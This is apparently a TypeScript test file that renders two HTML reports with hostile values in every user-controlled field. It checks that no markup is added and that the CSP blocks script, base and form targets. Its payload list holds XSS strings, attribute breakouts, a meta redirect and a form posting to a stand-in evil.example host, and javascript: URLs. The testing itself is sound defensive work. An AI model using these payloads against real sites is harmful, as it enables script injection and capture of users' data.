// Both HTML reports (the evaluation report and the case report) rendered with every user-controlled
// field set to hostile text: the page holds exactly the elements and attributes the template writes
// (the same outline as the page rendered from benign values), the hostile text is shown as text, and
// each page's CSP forbids base, form and script. Tokenized like a browser (test/support/html-tokens.ts).
import { describe, expect, it } from 'vitest';
import { escapeInvisible } from '../../common/display-text.js';
import { fullEvaluation } from '../../common/metrics/full-evaluation.js';
import { builtinProfile } from '../../common/metrics/profiles.js';
import { parseScoresCsv } from '../../common/metrics/scores-csv.js';
import { evaluationReportHtml } from '../../common/report/evaluation-report.js';
import { markupOutline, pageText, tokenizeHtml } from '../support/html-tokens.js';
import { casePage, evaluationPage, scoresCsv } from '../support/report-fixtures.js';

/** Text that breaks out of attributes, text, style and title, opens forms, redirects, or hides itself. */
const HOSTILE = [
  `"><meta http-equiv="refresh" content="0;url=https://evil.example/">`,
  `'><form action="https://evil.example/collect"><input name="x">`,
  `</style><style>table{display:none}</style>`,
  `</title><script>alert(1)</script>`,
  `<img src=x onerror=alert(1)>`,
  '`onerror=`alert(1)` javascript:alert(1)',
  `" onmouseover="alert(1)" data-x="`,
  `' onfocus='alert(1)' data-x='`,
  '&amp; &lt;b&gt; &#60;i&#62; & <',
  `<!-- c --> <![CDATA[x]]> <?xml x?> </ >`,
  '</textarea></code></td></tr></table><a href=javascript:alert(1)>x</a>',
  'moc.live\u202E.exe \u2066isolate\u2069 \u200Fmark',
  'nul\u0000byte \u001b[2J bell\u0007',
];

const BENIGN = 'benign';

// ---- the checks ------------------------------------------------------------------------------------

/** Fields each page must show (so that the hostile checks above cover them): the comparison section's included. */
const FIELDS: Record<string, string[]> = {
  'model-name': ['model-name', 'scores-file', 'comparison-a', 'comparison-b', 'threshold-says-a', 'threshold-says-b'],
};

const REPORTS = [
  { name: 'evaluation report', render: evaluationPage, shown: 'model-name' },
  { name: 'case report', render: casePage, shown: 'examiner-name' },
];

describe.each(REPORTS)('$name with hostile values in every user-controlled field', ({ render, shown }) => {
  const benign = render((field) => `${field}:${BENIGN}`);
  const outline = markupOutline(benign);

  it.each(HOSTILE.map((payload, i) => [i, payload] as const))('hostile value #%i adds no element or attribute and is shown as text', (_, payload) => {
    const hostile = render((field) => `${field}:${payload}`);
    expect(markupOutline(hostile)).toEqual(outline);
    const text = pageText(hostile);
    expect(text).toContain(`${shown}:${escapeInvisible(payload)}`);
    expect(text).not.toMatch(/[\u0000\u001b\u202a-\u202e\u2066-\u2069\u200e\u200f]/);
  });

  it('every user-controlled field reaches the page, shown as text', () => {
    const text = pageText(benign);
    for (const field of FIELDS[shown] ?? []) expect(text).toContain(`${field}:${BENIGN}`);
  });

  it('has a CSP that blocks script, base and form targets', () => {
    const csp = tokenizeHtml(benign).find((t) => t.kind === 'start' && t.name === 'meta' && t.attributes.some(([n, v]) => n === 'http-equiv' && v === 'Content-Security-Policy'));
    const content = csp?.kind === 'start' ? csp.attributes.find(([n]) => n === 'content')?.[1] ?? '' : '';
    expect(content).toMatch(/default-src 'none'/);
    expect(content).toMatch(/base-uri 'none'/);
    expect(content).toMatch(/form-action 'none'/);
    expect(content).not.toMatch(/script-src/);
  });
});

describe('links in the evaluation report', () => {
  it('a profile source URL that is not http(s) is shown as text, never as a link', () => {
    const base = builtinProfile('ibeta-level1')!;
    const scores = parseScoresCsv(scoresCsv((f) => f, false), 'scores.csv');
    const full = fullEvaluation({ scores: { data: scores, description: 's' }, criterion: { kind: 'eer' }, profile: { ...base, source: { title: 't', url: 'javascript:alert(1)' }, further_sources: [{ title: 'u', url: ' JavaScript:alert(2)' }] } });
    const page = evaluationReportHtml(full, { generatedAt: 'now', generator: 'g', scores: { description: 's', scoreLabelSha256: 'x' } });
    const hrefs = tokenizeHtml(page).flatMap((t) => (t.kind === 'start' ? t.attributes.filter(([n]) => n === 'href').map(([, v]) => v) : []));
    expect(hrefs.filter((h) => !/^#|^https?:/i.test(h))).toEqual([]);
    expect(pageText(page)).toContain('javascript:alert(1)');
  });
});
